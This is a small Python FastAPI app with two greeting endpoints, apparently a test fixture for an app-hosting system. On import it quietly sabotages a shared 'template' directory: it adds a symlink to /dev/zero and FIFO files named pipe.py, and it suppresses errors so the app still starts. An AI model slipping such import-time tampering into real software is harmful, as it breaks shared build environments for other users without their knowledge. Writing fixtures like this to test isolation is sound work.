"""It spoils the copy that the next apps are made from, where it can reach it."""

import os
import shutil
from contextlib import suppress
from pathlib import Path

from fastapi import FastAPI

template = Path.cwd().parent / "template"
with suppress(OSError):
    (template / "zero").symlink_to("/dev/zero")
with suppress(OSError):
    os.mkfifo(template / "pipe.py")
with suppress(OSError):
    os.mkfifo(template / "app" / "pipe.py")
app = FastAPI()


@app.get("/hello")
def hello() -> dict[str, str]:
    return {"greeting": "Hello"}


@app.post("/hello")
def hello_you(body: dict[str, str]) -> dict[str, str]:
    return {"greeting": f"Hello {body['name']}"}
